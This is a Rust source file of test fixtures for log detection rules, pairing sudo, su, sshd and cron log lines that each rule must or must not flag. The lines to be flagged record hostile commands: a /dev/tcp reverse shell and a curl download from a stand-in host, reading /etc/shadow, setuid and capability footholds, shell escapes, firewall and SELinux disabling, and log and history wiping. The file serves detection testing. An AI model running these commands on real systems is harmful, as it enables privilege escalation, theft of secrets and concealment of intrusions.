//! What programs of a host say, for the rules that come with the program.

/// What programs of a host say: the file's name, the program, what must be found and what must not.
pub const HOST: &[(&str, &str, &[&str], &[&str])] = &[
    (
        "sudo-command",
        "sudo",
        &[
            // Users and rights.
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/usermod -aG sudo bob",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/gpasswd -a bob docker",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/tee /etc/sudoers.d/99-x",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/visudo",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh -c echo 'x:0' | chpasswd",
            // Defences.
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/ufw disable",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/iptables -F",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/setenforce 0",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/systemctl stop fail2ban",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/sed -i s/no/yes/ /etc/ssh/sshd_config",
            // Secrets.
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/tar czf /tmp/k.tgz /etc/ssl/private",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/strings /proc/1234/environ",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/gcore 1234",
            // Footholds.
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/chmod u+s /bin/bash",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/setcap cap_setuid+ep /usr/bin/python3.11",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/tee /etc/ld.so.preload",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/curl -o /usr/bin/k http://198.51.100.2/k",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash -c bash -i >& /dev/tcp/198.51.100.2/4 0>&1",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/nohup /tmp/.x",
            // Shells out of other programs.
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/vim -c :!/bin/sh",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/find . -exec /bin/sh ;",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/python3 -c import os; os.system(\"/bin/sh\")",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/docker run -v /:/mnt -it alpine chroot /mnt sh",
            // What is refused, and whom nobody works as.
            "eve : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id",
            "eve : command not allowed ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id",
            "eve : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id",
            "www-data : TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/usr/bin/id",
        ],
        &[
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/apt-get install -y adduser",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/ls /etc/sudoers.d",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/ufw status",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/iptables -L -n",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/systemctl restart fail2ban",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/systemctl stop nginx",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/grep Port /etc/ssh/sshd_config",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/chmod 600 /etc/shadow",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/cat /etc/nginx/nginx.conf",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/chmod 2775 /srv/shared",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/setcap cap_net_bind_service+ep /usr/bin/node",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/curl -o /usr/bin/k https://get.example/k",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/curl http://10.0.0.2/health",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/vim /srv/deploy.sh",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/find /srv -name *.sh -exec chmod +x {} ;",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/docker exec -it api cat /etc/hostname",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/rsync -a -e ssh /srv/ b:/srv/",
            "postgres : TTY=unknown ; PWD=/ ; USER=root ; COMMAND=/usr/bin/systemctl restart postgresql",
        ],
    ),
    (
        "sudo-command",
        "su",
        &["(to root) www-data on pts/0"],
        &["(to root) eve on pts/0", "FAILED SU (to root) eve on pts/0"],
    ),
    (
        "sudo-command",
        "chpasswd",
        &["pam_unix(chpasswd:chauthtok): password changed for eve"],
        &["pam_unix(chpasswd:chauthtok): password not changed for eve"],
    ),
    (
        "sudo-command",
        "passwd",
        &["pam_unix(passwd:chauthtok): password changed for root"],
        &["pam_unix(passwd:chauthtok): password changed for eve"],
    ),
    (
        "ssh-account",
        "sshd-session",
        &[
            "Accepted password for postgres from 1.2.3.4 port 5 ssh2",
            "User eve not allowed because account is locked",
            "fatal: Access denied for user eve by PAM account configuration [preauth]",
            "Authentication refused: bad ownership or modes for file /home/eve/.ssh/authorized_keys",
        ],
        &["Accepted publickey for postgres from 10.0.0.2 port 5 ssh2", "Connection closed by 1.2.3.4 port 5 [preauth]"],
    ),
    (
        "ssh-forwarding",
        "sshd",
        &[
            "refused local port forward: originator 127.0.0.1 port 5, target 10.0.0.2 port 5432",
            "Received request from 1.2.3.4 port 5 to connect to host 10.0.0.2 port 5432, but the request was denied.",
        ],
        &["Received disconnect from 1.2.3.4 port 5:11: disconnected by user"],
    ),
    (
        "cron-changed",
        "sudo",
        &[
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/crontab -e",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/crontab -u root /tmp/c",
        ],
        &[
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/crontab -l",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/crontab -u bob -l",
        ],
    ),
    (
        "logs-cut",
        "sudo",
        &[
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/service rsyslog stop",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/systemctl mask systemd-journald",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/systemctl disable --now auditd",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/sed -i /198.51.100.2/d /var/log/auth.log",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/ln -sf /dev/null /root/.bash_history",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/rm -rf /var/log/journal",
        ],
        &[
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/grep alarm /var/log/syslog",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/tail -f /var/log/nginx/error.log",
            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/systemctl restart rsyslog",
        ],
    ),
];
